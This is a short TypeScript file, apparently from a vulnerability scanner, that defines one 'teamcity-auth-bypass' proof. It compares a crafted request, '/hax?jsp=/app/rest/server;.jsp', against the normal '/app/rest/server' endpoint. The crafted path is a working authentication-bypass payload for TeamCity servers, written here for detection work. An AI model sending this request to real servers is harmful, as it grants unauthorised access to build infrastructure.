import { type Proof, get, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof('teamcity-auth-bypass', get('/hax?jsp=/app/rest/server;.jsp'), get('/app/rest/server')),
]
